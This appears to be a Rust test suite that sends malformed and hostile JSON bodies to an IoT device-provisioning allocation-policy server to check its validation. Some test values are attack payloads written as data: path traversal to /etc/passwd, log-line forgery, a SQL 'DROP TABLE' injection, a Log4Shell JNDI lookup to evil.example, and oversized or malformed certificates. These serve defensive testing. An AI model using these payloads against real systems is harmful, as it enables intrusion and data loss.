//! Bodies that are JSON, but whose members are missing, double, of the wrong type, or hold what nobody should send.

use berth_tests::{Berth, bodies as sent};
use serde_json::{Value, json};

use super::{
    SERVERS, attacks,
    bodies::{malformed, taken},
};

/// A body with this in place of what is at the pointer, or added there.
fn with(pointer: &str, value: Value) -> String {
    put(sent::first(), pointer, value)
}

fn put(body: &str, pointer: &str, value: Value) -> String {
    let mut body = sent::parsed(body);
    let (parent, member) = pointer.rsplit_once('/').unwrap();
    body.pointer_mut(parent).unwrap()[member] = value;
    body.to_string()
}

fn without(pointer: &str) -> String {
    let mut body = sent::parsed(sent::first());
    let (parent, member) = pointer.rsplit_once('/').unwrap();
    body.pointer_mut(parent).unwrap().as_object_mut().unwrap().remove(member).unwrap();
    body.to_string()
}

/// The member twice, in its object.
fn twice(member: &str) -> String {
    sent::first().replacen(&format!("\"{member}\":"), &format!("\"{member}\": null, \"{member}\":"), 1)
}

/// A device's id is the policy's to judge.
fn id(id: &str) -> String {
    sent::from_device(id)
}

fn hubs(hubs: Value) -> String {
    with("/linkedHubs", hubs)
}

/// A device that shows this certificate. Whether it is one was DPS's question: a policy is told that there are no facts.
fn certificate(text: &str) -> String {
    with("/deviceRuntimeContext", json!({ "registrationId": "a", "x509": { "clientCertificate": text } }))
}

/// Base64 of DER that begins like a certificate and says that it is this long.
fn der(length: [u8; 4]) -> String {
    use std::fmt::Write as _;
    // 0x30 0x84, the length, and nothing of it.
    let bytes = [[0x30, 0x84].as_slice(), &length, &[0x30, 0x82, 0xff]].concat();
    let digits = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    bytes.chunks(3).fold(String::new(), |mut text, three| {
        let word = three.iter().fold(0_u32, |word, byte| (word << 8) | u32::from(*byte));
        for place in (0..4).rev() {
            let _ = write!(text, "{}", char::from(digits[(word >> (6 * place)) as usize & 63]));
        }
        text
    })
}

/// The policy's answer is a fault, since the hub it always chooses is not linked; and no more than that is said.
fn finds_no_hub(body: String) -> impl AsyncFnOnce(&Berth) {
    async move |berth: &Berth| {
        let mark = berth.mark().await;
        let message = berth.asks("contoso/toasters").with(body).await.is_error(503, "policy-fault");
        assert!(!message.contains("azure-devices"), "{message}");
        let (_, line) = berth.log().find("the fault", mark, |line| line.message() == "policy fault").await;
        assert!(line.text("reason").contains("is not linked"), "{line}");
    }
}

const OWN: &str = "/individualEnrollment";
const CONTEXT: &str = "/deviceRuntimeContext";

fn own(member: &str, value: Value) -> String {
    put(sent::individual_x509(), &format!("{OWN}/{member}"), value)
}

attacks! { SERVERS:
    no_context => malformed(without(CONTEXT), "missing field `deviceRuntimeContext`");
    a_context_of_null => malformed(with(CONTEXT, json!(null)), "deviceRuntimeContext is not an object");
    a_context_that_is_a_string => malformed(with(CONTEXT, json!("{}")), "deviceRuntimeContext is not an object");
    a_context_that_is_an_array => malformed(with(CONTEXT, json!(["a"])), "deviceRuntimeContext is not an object");
    a_context_twice => malformed(twice("deviceRuntimeContext"), "duplicate field");
    no_id => malformed(without("/deviceRuntimeContext/registrationId"), "missing field `registrationId`");
    an_id_of_null => malformed(with("/deviceRuntimeContext/registrationId", json!(null)), "invalid type");
    an_id_that_is_a_number => malformed(with("/deviceRuntimeContext/registrationId", json!(1)), "invalid type");
    an_id_that_is_an_array => malformed(with("/deviceRuntimeContext/registrationId", json!(["a"])), "invalid type");
    an_id_twice => malformed(sent::first().replacen("\"registrationId\":", "\"registrationId\": \"a\", \"registrationId\":", 1), "duplicate field");
    an_id_that_is_empty => malformed(id(""), "registrationId is empty");
    an_id_of_a_hundred_kibibytes => taken(id(&"a".repeat(100 << 10)));
    an_id_that_climbs => taken(id("../../../etc/passwd"));
    an_id_that_forges_a_line => taken(id("a\n{\"level\":\"ERROR\"}\r\n"));
    an_id_of_control_characters => taken(id("\u{0}\u{1b}[2J\u{7f}\u{85}"));
    an_id_from_right_to_left => taken(id("\u{202e}gnp.exe"));
    an_id_of_combining_marks => taken(id(&format!("a{}", "\u{301}".repeat(10_000))));
    an_id_that_is_a_query => taken(id("' OR 1=1; DROP TABLE devices; --"));
    an_id_that_is_a_template => taken(id("${jndi:ldap://evil.example/a}{{7*7}}%s%n"));
    no_enrollment => malformed(without("/enrollmentGroup"), "neither an individualEnrollment nor");
    both_enrollments => malformed(with(OWN, json!({ "registrationId": "a" })), "both an individualEnrollment and");
    both_enrollments_of_null => malformed(put(&with(OWN, json!(null)), "/enrollmentGroup", json!(null)), "neither an individualEnrollment nor");
    an_enrollment_that_is_a_string => malformed(with("/enrollmentGroup", json!("x")), "the enrollment is not an object");
    an_enrollment_that_is_an_array => malformed(with("/enrollmentGroup", json!([1])), "the enrollment is not an object");
    an_enrollment_twice => malformed(twice("enrollmentGroup"), "duplicate field");
    an_enrollment_without_its_id => malformed(without("/enrollmentGroup/enrollmentGroupId"), "enrollmentGroupId is missing");
    an_enrollment_id_that_is_a_number => malformed(with("/enrollmentGroup/enrollmentGroupId", json!(7)), "invalid type");
    an_enrollment_of_its_own_without_its_id => malformed(own("registrationId", json!(null)), "registrationId is missing");
    a_device_id_that_is_an_object => malformed(own("deviceId", json!({})), "invalid type");
    an_attestation_that_is_a_string => malformed(with("/enrollmentGroup/attestation", json!("x509")), "expected an object");
    an_attestation_type_that_is_a_number => malformed(with("/enrollmentGroup/attestation/type", json!(1)), "invalid type");
    an_attestation_nobody_knows => taken(with("/enrollmentGroup/attestation/type", json!("quantum")));
    capabilities_that_are_an_array => malformed(with("/enrollmentGroup/capabilities", json!([true])), "expected an object");
    an_edge_that_is_a_number => malformed(with("/enrollmentGroup/capabilities/iotEdge", json!(1)), "invalid type");
    an_etag_that_is_an_object => malformed(with("/enrollmentGroup/etag", json!({})), "invalid type");
    a_status_that_is_a_number => malformed(with("/enrollmentGroup/provisioningStatus", json!(0)), "invalid type");
    a_status_nobody_knows => taken(with("/enrollmentGroup/provisioningStatus", json!("haunted")));
    a_reprovision_policy_that_is_a_string => malformed(with("/enrollmentGroup/reprovisionPolicy", json!("never")), "expected an object");
    a_reprovision_policy_that_is_an_array => malformed(with("/enrollmentGroup/reprovisionPolicy", json!([false, true])), "expected an object");
    a_move_that_is_a_string => malformed(with("/enrollmentGroup/reprovisionPolicy/updateHubAssignment", json!("false")), "invalid type");
    a_migration_that_is_a_number => malformed(with("/enrollmentGroup/reprovisionPolicy/migrateDeviceData", json!(0)), "invalid type");
    a_date_that_is_a_number => malformed(with("/enrollmentGroup/createdDateTimeUtc", json!(1)), "invalid type");
    a_date_that_never_was => taken(with("/enrollmentGroup/createdDateTimeUtc", json!("9999-99-99T99:99:99Z")));
    an_allocation_policy_that_is_an_array => malformed(with("/enrollmentGroup/allocationPolicy", json!([])), "invalid type");
    enrolled_hubs_that_are_a_string => malformed(with("/enrollmentGroup/iotHubs", json!("a")), "invalid type");
    enrolled_hubs_of_numbers => malformed(with("/enrollmentGroup/iotHubs", json!([1])), "invalid type");
    a_definition_that_is_a_string => malformed(with("/enrollmentGroup/customAllocationDefinition", json!("x")), "expected an object");
    a_webhook_url_that_is_a_number => malformed(with("/enrollmentGroup/customAllocationDefinition/webhookUrl", json!(1)), "invalid type");
    a_twin_that_is_a_string => malformed(own("initialTwin", json!("x")), "expected an object");
    twin_properties_that_are_an_array => malformed(own("initialTwin", json!({ "properties": [] })), "expected an object");
    a_credential_policy_that_is_a_number => malformed(with("/enrollmentGroup/credentialPolicyName", json!(1)), "invalid type");
    members_nobody_has_heard_of => taken(with("/whatever", json!({ "a": [1, 2, 3] })));
    no_hubs => malformed(without("/linkedHubs"), "missing field `linkedHubs`");
    hubs_of_null => malformed(hubs(json!(null)), "invalid type");
    hubs_that_are_an_object => malformed(hubs(json!({ "0": "a" })), "invalid type");
    hubs_that_are_a_string => malformed(hubs(json!("a")), "invalid type");
    hubs_of_numbers => malformed(hubs(json!([1, 2])), "invalid type");
    hubs_of_null_members => malformed(hubs(json!([null])), "invalid type");
    hubs_twice => malformed(twice("linkedHubs"), "invalid type");
    hubs_without_any => malformed(hubs(json!([])), "linkedHubs is empty");
    a_hub_that_is_empty => malformed(hubs(json!([sent::TOASTERS, ""])), "linkedHubs has an empty name");
    five_thousand_hubs => taken(hubs((0..5000).map(|n| format!("hub-{n}.azure-devices.net")).chain([sent::TOASTERS.to_owned()]).collect()));
    five_thousand_hubs_of_one_name => taken(hubs(json!(vec![sent::TOASTERS; 4000])));
    a_hub_of_64_kibibytes => taken(hubs(json!(["h".repeat(64 << 10), sent::TOASTERS])));
    hubs_with_control_characters => finds_no_hub(hubs(json!([format!("{}\r\n", sent::TOASTERS), "\u{0}"])));
    a_hub_with_a_cyrillic_letter => finds_no_hub(hubs(json!([sent::TOASTERS.replacen('o', "\u{43e}", 1)])));
    a_hub_with_a_turkish_letter => finds_no_hub(hubs(json!([sent::TOASTERS.replacen('i', "\u{131}", 1)])));
    a_hub_with_a_dot_behind_it => finds_no_hub(hubs(json!([format!("{}.", sent::TOASTERS)])));
    a_hub_in_capitals => async |berth: &Berth| {
        let body = hubs(json!([sent::TOASTERS.to_uppercase()]));
        berth.asks("contoso/toasters").with(body).await.is_hub(&sent::TOASTERS.to_uppercase());
    };
    no_attestation => malformed(without("/deviceRuntimeContext/symmetricKey"), "exactly one of x509, symmetricKey and tpm");
    two_attestations => malformed(with("/deviceRuntimeContext/tpm", json!({})), "exactly one of x509, symmetricKey and tpm");
    three_attestations => malformed(put(&with("/deviceRuntimeContext/tpm", json!({})), "/deviceRuntimeContext/x509", json!({})), "exactly one of");
    an_attestation_of_null => malformed(with("/deviceRuntimeContext/symmetricKey", json!(null)), "exactly one of");
    a_key_that_is_a_string => malformed(with("/deviceRuntimeContext/symmetricKey", json!("secret")), "expected an object");
    a_tpm_that_is_an_array => malformed(put(sent::individual_tpm(), "/deviceRuntimeContext/tpm", json!(["a", "b"])), "expected an object");
    an_endorsement_key_that_is_a_number => malformed(put(sent::individual_tpm(), "/deviceRuntimeContext/tpm/endorsementKey", json!(1)), "invalid type");
    a_certificate_that_is_a_number => malformed(with("/deviceRuntimeContext", json!({ "registrationId": "a", "x509": { "clientCertificate": 1 } })), "invalid type");
    a_certificate_that_is_an_array => malformed(with("/deviceRuntimeContext", json!({ "registrationId": "a", "x509": ["x"] })), "expected an object");
    a_certificate_that_is_empty => taken(certificate(""));
    a_certificate_that_is_no_base64 => taken(certificate("-----BEGIN CERTIFICATE-----\n????\n-----END CERTIFICATE-----"));
    a_certificate_of_garbage => taken(certificate("AAAAAAAAAAAAAAAAAAAAAAAA"));
    a_certificate_cut_short => taken(certificate("MIIBxTCCAWygAwIBAgIDHQxeMAoGCCqGSM49BAMCMCUx"));
    a_certificate_that_says_four_gibibytes => taken(certificate(&der([0xff; 4])));
    a_certificate_without_a_length => taken(certificate(&der([0; 4])));
    a_certificate_of_nested_sequences => taken(certificate(&"MIAwgDCA".repeat(20_000)));
    a_certificate_of_200_kibibytes => taken(certificate(&"MIIB".repeat(50_000)));
    a_current_hub_that_is_a_number => malformed(with("/deviceRuntimeContext/currentIotHubHostName", json!(1)), "invalid type");
    a_current_hub_in_two_spellings => malformed(put(&with("/deviceRuntimeContext/currentIotHubHostName", json!("a")), "/deviceRuntimeContext/currentIoTHubHostName", json!("b")), "duplicate field");
    a_current_hub_that_is_not_linked => taken(with("/deviceRuntimeContext/currentIotHubHostName", json!("evil.example")));
    a_current_device_that_is_an_object => malformed(with("/deviceRuntimeContext/currentDeviceId", json!({})), "invalid type");
}
